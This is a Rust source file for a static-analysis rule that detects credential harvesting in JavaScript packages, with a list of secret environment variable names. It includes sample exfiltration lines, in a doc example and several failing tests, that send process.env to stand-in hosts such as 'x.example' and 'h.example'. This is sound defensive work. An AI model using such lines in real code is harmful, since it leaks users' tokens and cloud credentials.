use std::collections::BTreeSet;

use crate::context::FileContext;
use crate::report::{Confidence, Finding, Severity};
use crate::rule::{Rule, RuleMeta, declare_rule};
use crate::rules::is_network_call;

/// Environment variables that hold secrets.
const SECRET_VARIABLES: &[&str] = &[
    "NPM_TOKEN",
    "NODE_AUTH_TOKEN",
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "AWS_ACCESS_KEY_ID",
    "AZURE_CLIENT_SECRET",
    "GOOGLE_APPLICATION_CREDENTIALS",
    "SLACK_TOKEN",
    "DISCORD_TOKEN",
    "OPENAI_API_KEY",
    "ANTHROPIC_API_KEY",
    "CI_JOB_TOKEN",
    "GITLAB_TOKEN",
    "HEROKU_API_KEY",
    "DOCKER_PASSWORD",
    "STRIPE_SECRET_KEY",
    "VAULT_TOKEN",
    "CIRCLE_TOKEN",
    "ACTIONS_RUNTIME_TOKEN",
];

declare_rule! {
    /// ### What it does
    /// Finds bulk serialisation of the environment (`JSON.stringify(process.env)`,
    /// `Object.entries(process.env)`, `process.env` passed to a network call) and files that read
    /// three or more well-known secret variables (`NPM_TOKEN`, `GITHUB_TOKEN`, `AWS_SECRET_ACCESS_KEY`…).
    ///
    /// ### Why is this bad?
    /// On a CI runner or a developer machine the environment holds registry, cloud and GitHub
    /// tokens; stealers serialise all of it and send it out (Shai-Hulud, countless 2022-2025
    /// typosquats). Configuration libraries read single variables, not the whole environment.
    ///
    /// ### Examples
    /// Incorrect:
    /// ```js
    /// https.request({ host: 'x.example', method: 'POST' }).end(JSON.stringify(process.env));
    /// ```
    /// Correct:
    /// ```js
    /// const port = process.env.PORT || 3000;
    /// ```
    EnvHarvesting, "env-harvesting", Credentials,
    tokens = &["process", "http", "fetch", "XMLHttpRequest", "WebSocket", "net", "dgram", "dns"]
}

impl Rule for EnvHarvesting {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        let Some(facts) = file.js else { return };
        for call in &facts.calls {
            let bulk = call
                .arguments
                .iter()
                .any(|argument| argument.path.as_deref() == Some("process.env"));
            if !bulk {
                continue;
            }
            let graded = match call.callee.as_str() {
                "JSON.stringify" => Some((
                    Severity::High,
                    "serialises the whole environment (`JSON.stringify(process.env)`)",
                )),
                callee
                    if is_network_call(callee)
                        || callee.ends_with(".write")
                        || callee.ends_with(".send")
                        || callee.ends_with(".post")
                        || callee.ends_with(".end") =>
                {
                    Some((
                        Severity::High,
                        "sends the whole environment over the network",
                    ))
                }
                "Buffer.from" | "btoa" => Some((Severity::High, "encodes the whole environment")),
                _ => None,
            };
            if let Some((severity, message)) = graded {
                out.push(file.finding(
                    &Self::META,
                    severity,
                    Confidence::High,
                    Some(call.offset as usize),
                    message.to_owned(),
                    None,
                ));
            }
        }
        if let Some(member) = facts
            .members
            .iter()
            .find(|member| member.path == crate::js::visitor::SERIALIZED_ENV)
        {
            out.push(file.finding(
                &Self::META,
                Severity::High,
                Confidence::High,
                Some(member.offset as usize),
                "serialises the whole environment inside an object".to_owned(),
                None,
            ));
        }
        let mut secrets = BTreeSet::new();
        let mut first = None;
        for member in &facts.members {
            if let Some(name) = member.path.strip_prefix("process.env.")
                && SECRET_VARIABLES.contains(&name)
            {
                secrets.insert(name);
                first.get_or_insert(member.offset as usize);
            }
        }
        if secrets.len() >= 3 {
            let names: Vec<&str> = secrets.into_iter().collect();
            out.push(file.finding(
                &Self::META,
                Severity::Medium,
                Confidence::Medium,
                first,
                format!(
                    "reads {} secret variables: {}",
                    names.len(),
                    names.join(", ")
                ),
                None,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::test_rule;

    #[test]
    fn test() {
        let pass = vec![
            "const port = process.env.PORT || 3000;".into(),
            "const debugKeys = Object.keys(process.env).filter((key) => /^debug_/i.test(key));".into(),
            "const env = process.env.NODE_ENV; console.log(JSON.stringify({ env }));".into(),
            "if (process.env.GITHUB_TOKEN) { useToken(process.env.GITHUB_TOKEN); }".into(),
            "require('child_process').spawn('node', ['x.js'], { env: { ...process.env, FORCE_COLOR: '1' } });".into(),
        ];
        let fail = vec![
            "const data = JSON.stringify(process.env);".into(),
            "req.end(JSON.stringify({ host: os.hostname(), env: process.env }));".into(),
            "const payload = Buffer.from(JSON.stringify({ ...process.env })).toString('base64');".into(),
            "const axios = require('axios'); axios.post('https://h.example', process.env);".into(),
            "const t = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY];".into(),
        ];
        test_rule(EnvHarvesting::META.name, pass, fail);
    }
}
